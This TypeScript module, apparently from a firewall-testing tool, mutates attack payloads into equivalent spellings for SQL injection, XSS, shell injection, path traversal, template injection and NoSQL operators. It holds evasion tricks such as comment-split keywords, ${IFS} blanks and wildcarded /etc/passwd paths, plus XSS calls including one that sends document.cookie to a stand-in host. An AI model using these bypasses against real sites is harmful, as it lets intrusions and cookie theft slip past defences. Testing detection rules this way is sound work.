/**
 * Rewrites of a payload that leave its effect as it is: other spellings that the attacked language reads in the same way.
 *
 * @module
 */
import type { Dice } from "./dice.ts";

/** The languages whose payloads can be rewritten. */
export type Family = "sql" | "markup" | "shell" | "path" | "template" | "operators";

/** Gives another spelling of `payload`, or the same one where there is nothing to change. */
export interface Rewrite {
  readonly name: string;
  apply(payload: string, dice: Dice): string;
}

const anyCase = (text: string, dice: Dice): string =>
  text.replace(/[a-z]/gi, (letter) => (dice.once(2) ? letter.toUpperCase() : letter.toLowerCase()));

/** Replaces some of the matches, at least the first. */
const some = (text: string, pattern: RegExp, dice: Dice, change: (match: string) => string): string => {
  let isFirst = true;
  return text.replace(pattern, (match) => {
    const chosen = isFirst || dice.once(2);
    isFirst = false;
    return chosen ? change(match) : match;
  });
};

const hexOf = (text: string): string => Buffer.from(text, "utf8").toString("hex");

const SQL_WORDS =
  /\b(?:select|union|all|from|where|or|and|like|between|insert|into|update|delete|drop|table|sleep|benchmark|waitfor|delay|having|group|order|by|null|exec|concat|information_schema|sqlite_master|case|when|then|else|end)\b/gi;

const SQL: readonly Rewrite[] = [
  { name: "sql: mixed case", apply: (text, dice) => text.replace(SQL_WORDS, (word) => anyCase(word, dice)) },
  {
    name: "sql: other white space",
    // Behind `--` MySQL wants a blank; there it stays.
    apply: (text, dice) =>
      some(text, /(?<!--) /g, dice, () => dice.pick(["/**/", "\t", "\n", "\r\n", "\x0b", "\f", "  ", "/*x*/", "/*!*/", "-- x\n"])),
  },
  {
    name: "sql: another truth",
    apply: (text, dice) =>
      text
        .replace(/\b(\d+)\s*=\s*\1\b/, () =>
          dice.pick([
            "2=2",
            "7>3",
            "3<>4",
            "1 LIKE 1",
            "1 IN (1)",
            "1 BETWEEN 0 AND 2",
            "NOT 0",
            "5 IS NOT NULL",
            "(1)=(1)",
            "0x1=1",
            "1.0=1",
            "~0",
            "!0",
          ]),
        )
        .replace(/'(\w+)'\s*=\s*'\1/, () => dice.pick(["'b'='b", "'x' LIKE 'x", "'b'>'a", "'a'<>'b", "'a' IN ('a')AND'1'='1", "''='"])),
  },
  {
    name: "sql: operators of MySQL",
    apply: (text, dice) =>
      some(text, /\b(?:or|and)\b/gi, dice, (word) =>
        word.toLowerCase() === "or" ? dice.pick(["||", "XOR", " || "]) : dice.pick(["&&", " && "]),
      ),
  },
  {
    name: "sql: another union",
    apply: (text, dice) =>
      text.replace(/\bunion\s+(?:all\s+)?select\b/i, () =>
        dice.pick(["UNION ALL SELECT", "UNION DISTINCT SELECT", "UNION(SELECT", "UNION/**/SELECT"]),
      ),
  },
  {
    name: "sql: another end",
    apply: (text, dice) => text.replace(/(?:--[ -]?.{0,3}|#)$/, () => dice.pick(["-- ", "#", "-- -", "--\t", "/*", ";\0", "-- x"])),
  },
  { name: "sql: text as hexadecimal", apply: (text) => text.replace(/'([\w%]{2,20})'/, (_, word: string) => `0x${hexOf(word)}`) },
  {
    name: "sql: text as characters",
    apply: (text) =>
      text.replace(/'([\w%]{2,20})'/, (_, word: string) => `CHAR(${[...word].map((letter) => letter.charCodeAt(0)).join(",")})`),
  },
  {
    name: "sql: version comment",
    apply: (text, dice) => text.replace(/\b(?:union|select|from|or|and)\b/i, (word) => `/*!${dice.pick(["", "50000", "00000"])}${word}*/`),
  },
  {
    name: "sql: another number",
    apply: (text, dice) => text.replace(/\b1\b/, () => dice.pick(["1.0", "0x1", "1e0", "-(-1)", "(1)", "2-1"])),
  },
  {
    name: "sql: blank before a call",
    apply: (text, dice) => text.replace(/(?<=\b[a-z_]{3,})\(/i, () => dice.pick([" (", "/**/(", "\n("])),
  },
  { name: "sql: quoted names", apply: (text) => text.replace(/\bfrom\s+([a-z_]\w*)/i, (_, table: string) => `from\`${table}\``) },
];

const CALLS = [
  "confirm(1)",
  "prompt(1)",
  "alert`1`",
  "(alert)(1)",
  "top['al'+'ert'](1)",
  'window["alert"](1)',
  "[1].map(alert)",
  "self[/al/.source+/ert/.source](1)",
  "setTimeout('alert(1)')",
  "eval(atob('YWxlcnQoMSk='))",
  "alert/**/(1)",
  "al\\u0065rt(1)",
  "globalThis['alert'](document.domain)",
  "import('//a.example/x')",
  "fetch('//a.example/'+document.cookie)",
  "Reflect.apply(alert,null,[1])",
  "new Function`al\\ert\\`1\\``",
  "throw onerror=alert,1",
  "location='javascript:alert(1)'",
];

const MARKUP: readonly Rewrite[] = [
  {
    name: "markup: mixed case",
    apply: (text, dice) => text.replace(/<\/?[a-z]+|\bon[a-z]+(?==)|javascript(?=:)/gi, (word) => anyCase(word, dice)),
  },
  {
    name: "markup: other white space in a tag",
    apply: (text, dice) =>
      text.replace(/(<[a-z]+)[ /]/i, (_, tag: string) => tag + dice.pick(["/", "\n", "\t", "\f", "\r", "//", " / ", "\n\n"])),
  },
  { name: "markup: another call", apply: (text, dice) => text.replace(/\b(?:alert|confirm|prompt)\s*\([^()]*\)/, () => dice.pick(CALLS)) },
  {
    name: "markup: quoted handler",
    apply: (text, dice) =>
      text.replace(/(\bon[a-z]+)=([^\s"'>]+)/i, (_, name: string, code: string) => {
        const quote = dice.pick(["'", '"', ""]);
        return `${name}${dice.pick(["=", " = ", "=\n", "\t="])}${code.includes(quote) && quote !== "" ? code : quote + code + quote}`;
      }),
  },
  {
    name: "markup: entities in a handler or address",
    apply: (text, dice) =>
      text.replace(/((?:\bon[a-z]+|href|src|action)\s*=\s*["']?)([a-z]{2,})/i, (_, before: string, code: string) => {
        const at = dice.below(code.length);
        const letter = code.charCodeAt(at);
        const entity = dice.pick([
          `&#${letter};`,
          `&#x${letter.toString(16)};`,
          `&#0000${letter};`,
          `&#X${letter.toString(16).toUpperCase()};`,
        ]);
        return before + code.slice(0, at) + entity + code.slice(at + 1);
      }),
  },
  {
    name: "markup: more attributes",
    apply: (text, dice) =>
      text.replace(
        /<[a-z]+(?=[\s/])/i,
        (tag) => `${tag} ${dice.pick(['id="a"', "class=b", "data-x='y'", "x=1", 'title="a>b"', "autofocus tabindex=1"])}`,
      ),
  },
  {
    name: "markup: broken address scheme",
    apply: (text, dice) =>
      text.replace(/javascript:/i, () =>
        dice.pick([
          "java\tscript:",
          "java\nscript:",
          " javascript:",
          "\x01javascript:",
          "javascript&colon;",
          "&#106;avascript:",
          "javascript:void(0)||",
          "jav&Tab;ascript:",
        ]),
      ),
  },
  {
    name: "markup: words before it",
    apply: (text, dice) => dice.pick(["nice product! ", '">', "'>", "</textarea>", "--><b>x</b>", "1 < 2 and "]) + text,
  },
  { name: "markup: unfinished tag", apply: (text) => text.replace(/>\s*$/, " ").replace(/<\/script\s*>?\s*$/i, "</script x") },
  {
    name: "markup: slash after the tag name",
    apply: (text) => text.replace(/<(svg|img|body|iframe|details|input|video|audio)\s+/i, "<$1/"),
  },
];

/** Puts something the shell drops inside a word. */
const splitWord = (word: string, dice: Dice): string => {
  const at = 1 + dice.below(Math.max(1, word.length - 1));
  return word.slice(0, at) + dice.pick(["''", '""', "\\", "$@", "${x}", "$()", "``"]) + word.slice(at);
};

const COMMANDS =
  /(?<=^|[\s;|&`(\n/])(?:cat|ls|id|whoami|uname|curl|wget|ping|nc|bash|sh|sleep|nslookup|echo|env|printenv|head|tail|grep|find|ps)\b/;

const SHELL: readonly Rewrite[] = [
  {
    name: "shell: split command",
    apply: (text, dice) => text.replace(COMMANDS, (word) => (word.length < 2 ? word : splitWord(word, dice))),
  },
  {
    name: "shell: command by its path",
    apply: (text, dice) => text.replace(COMMANDS, (word) => dice.pick(["/bin/", "/usr/bin/", "/???/", "./../../bin/"]) + word),
  },
  {
    name: "shell: another separator",
    apply: (text, dice) => text.replace(/;|\|\|?|&&?/, () => dice.pick([";", "|", "||", "&&", "&", "\n", "\r\n"])),
  },
  {
    name: "shell: substitution",
    apply: (text, dice) =>
      text.replace(/[;|&]\s*([a-z][^;|&`$()]*)$/i, (_, command: string) =>
        dice.pick([`$(${command})`, `\`${command}\``, `;{ ${command};}`, `|(${command})`]),
      ),
  },
  {
    name: "shell: other blanks",
    apply: (text, dice) => some(text, /(?<=\w) (?=[\w/-])/g, dice, () => dice.pick(["${IFS}", "$IFS$9", "\t", "${IFS%??}", "  "])),
  },
  { name: "shell: file from standard input", apply: (text) => text.replace(/\bcat\s+(?=\/)/, "cat<") },
  { name: "shell: braces", apply: (text) => text.replace(/\b(cat|ls|curl|wget)\s+([\w/.:-]+)/, "{$1,$2}") },
  {
    name: "shell: wildcards",
    apply: (text, dice) =>
      text.replace("/etc/passwd", () =>
        dice.pick([
          "/etc/pass*",
          "/e?c/p?sswd",
          "/etc/./passwd",
          "/etc//passwd",
          "/e'tc'/passwd",
          "/etc/pa\\sswd",
          "/[e]tc/passwd",
          "$HOME/../etc/passwd",
        ]),
      ),
  },
  { name: "shell: comment at the end", apply: (text) => `${text} #` },
  { name: "shell: words before it", apply: (text, dice) => dice.pick(["127.0.0.1", "a", "file.txt", "8.8.8.8 "]) + text },
];

const PATH: readonly Rewrite[] = [
  { name: "path: backslashes", apply: (text) => text.replaceAll("../", "..\\") },
  { name: "path: longer climb", apply: (text, dice) => text.replace("../", () => "../".repeat(2 + dice.below(6))) },
  { name: "path: doubled slashes", apply: (text, dice) => some(text, /(?<=[\w.])\/(?=\w)/g, dice, () => dice.pick(["//", "/./", "///"])) },
  { name: "path: nested climb", apply: (text) => text.replaceAll("../", "....//") },
  { name: "path: parameters", apply: (text) => text.replaceAll("../", "..;/") },
  {
    name: "path: through a folder",
    apply: (text, dice) => text.replace("/etc/", () => dice.pick(["/var/../etc/", "/etc/./", "/proc/self/root/etc/", "/usr/../etc/"])),
  },
  { name: "path: name behind a NUL", apply: (text, dice) => text + dice.pick(["\0", "\0.png", "\0.html", "?", "#", "/."]) },
  {
    name: "path: folder before it",
    apply: (text, dice) => (/^\.\.[\\/]/.test(text) ? dice.pick(["images/", "a/", "./", "products/x/"]) + text : text),
  },
  { name: "path: mixed climb", apply: (text, dice) => some(text, /\.\.\//g, dice, () => dice.pick(["..\\", ".././", "..//", "..\\/"])) },
];

const TEMPLATE: readonly Rewrite[] = [
  {
    name: "template: other white space",
    apply: (text, dice) => text.replace(/(?<=\{\{|\$\{|#\{|<%=|\{%)\s*/, () => dice.pick(["", " ", "\n", "\t", "  \n "])),
  },
  {
    name: "template: another sum",
    apply: (text, dice) =>
      text.replace(/\d+\s*\*\s*'?\d+'?/, () => dice.pick(["8*9", "1337*3", "7 * '7'", "(7)*(7)", "49-0", "7|abs*7", "[7*7][0]"])),
  },
  {
    name: "template: attribute by its name",
    apply: (text, dice) =>
      some(text, /\.(__\w+__|constructor|prototype)/g, dice, (match) =>
        dice.pick([`['${match.slice(1)}']`, `["${match.slice(1, 4)}"+"${match.slice(4)}"]`, `|attr('${match.slice(1)}')`]),
      ),
  },
  { name: "template: statement", apply: (text) => text.replace(/\{\{(.*)\}\}/s, "{%print($1)%}") },
  { name: "template: words before it", apply: (text, dice) => dice.pick(["Hello ", "x", "<b>"]) + text },
];

const OPERATORS: readonly Rewrite[] = [
  {
    name: "operators: another operator",
    apply: (text, dice) =>
      text.replace(/\$(?:ne|gt|gte|lt|lte|nin|exists|regex|where|in)\b/, () =>
        dice.pick(["$ne", "$gt", "$gte", "$nin", "$exists", "$regex", "$not"]),
      ),
  },
  {
    name: "operators: another value",
    apply: (text, dice) =>
      text.replace(
        /("\$(?:ne|gt|gte)"\s*:\s*)(?:null|""|"[^"]*"|\d+|true|false)/,
        (_, before: string) => before + dice.pick(["null", '""', "0", "[]", "false", '"x"']),
      ),
  },
  {
    name: "operators: inside another",
    apply: (text, dice) =>
      text.replace(/\{("\$(?:ne|gt|gte|regex)".*)\}/s, (_, inner: string) =>
        dice.pick([`{"$not":{${inner}}}`, `{"$exists":true,${inner}}`]),
      ),
  },
];

/** What can be done to payloads of each family. */
export const REWRITES: Readonly<Record<Family, readonly Rewrite[]>> = {
  sql: SQL,
  markup: MARKUP,
  shell: SHELL,
  path: PATH,
  template: TEMPLATE,
  operators: OPERATORS,
};

const FAMILIES: readonly (readonly [Family, RegExp])[] = [
  ["sql", /^sql/],
  ["markup", /^(?:xss|markup|script)/],
  ["shell", /^(?:rce|shell|command)/],
  ["path", /^(?:traversal|path|lfi|probes)/],
  ["template", /^(?:ssti|template|code)/],
  ["operators", /^nosql/],
];

/** The family of a payload, by its class in the traffic file or else the rule that stopped it; `undefined`: only its encoding and place change. */
export function familyOf(name: string, rule: string): Family | undefined {
  const of = (text: string): Family | undefined => FAMILIES.find(([, pattern]) => pattern.test(text))?.[0];
  return of(name) ?? of(rule);
}
